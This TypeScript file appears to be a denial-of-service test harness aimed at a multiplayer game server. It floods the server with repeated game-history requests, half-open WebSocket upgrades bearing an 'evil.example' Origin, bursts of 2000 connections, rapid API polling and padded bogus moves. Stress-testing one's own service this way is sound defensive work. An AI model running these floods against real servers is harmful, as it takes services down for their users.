// Somebody who wants to stop a server, from one address and within no limit of its own: node attacker.ts URL TABLE [ADDRESS]
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { WIRE_VERSION } from '@stolik/wire/version';
import { WebSocket } from 'ws';
import { call } from './house.ts';

// An attacker has machines of its own: here it must not take the server's.
setPriority(10);
const [url = '', table = '', localAddress] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const socketUrl = `${url.replace('http', 'ws')}/api/play`;

/** Asks for the whole past of a finished game, again and again. */
function film(): void {
  const socket = new WebSocket(socketUrl, { localAddress });
  socket.on('open', () => socket.send(JSON.stringify(['hi', WIRE_VERSION, table, '', 0, ''])));
  socket.on('message', (data: Buffer) => data.toString().startsWith('["here"') && socket.close());
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(film, 100));
}

/** Asks to be let in and keeps its half of what was refused. */
function halfOpen(): void {
  const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true, localAddress });
  socket.on('error', () => {});
  socket.resume();
  socket.write(
    'GET /api/play HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nOrigin: http://evil.example\r\n\r\n',
  );
}

/** Thousands who knock, and all speak at the same moment. */
function crowd(): void {
  const sockets = Array.from({ length: 2000 }, () => connect({ port: Number(port), host: hostname, localAddress }));
  for (const socket of sockets) socket.on('error', () => {}).resume();
  setTimeout(() => {
    for (const socket of sockets) socket.write('GET /api/games HTTP/1.1\r\nHost: x\r\n\r\n');
  }, 500);
  setTimeout(() => {
    for (const socket of sockets) socket.destroy();
  }, 1500);
}

/** Sends what takes long to be found out to be no move. */
function nonsense(id: string, token: string): void {
  const socket = new WebSocket(socketUrl, { localAddress });
  const text = `lay X${' '.repeat(190)}Y`;
  let count = 0;
  let timer: NodeJS.Timeout | undefined;
  socket.on('open', () => {
    socket.send(JSON.stringify(['hi', WIRE_VERSION, id, token, -1, '']));
    timer = setInterval(() => socket.send(JSON.stringify(['act', `n${count++}`, 0, text])), 60);
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    clearInterval(timer);
    setTimeout(nonsense, 50, id, token);
  });
}

for (let i = 0; i < 40; i++) film();
setInterval(halfOpen, 10);
setInterval(crowd, 2000);
setInterval(() => void call(url, '/api/tables/BCDFGHJK').catch(() => {}), 20);
for (let i = 0; i < 6; i++) {
  const request = { game: 'micropul', seats: ['me', { bot: '6' }], name: 'Eve' };
  const { body } = await call(url, '/api/tables', request);
  for (let each = 0; each < 4; each++) nonsense(body.table, body.token);
}
process.send?.('all begun');
process.on('disconnect', () => process.exit(0));
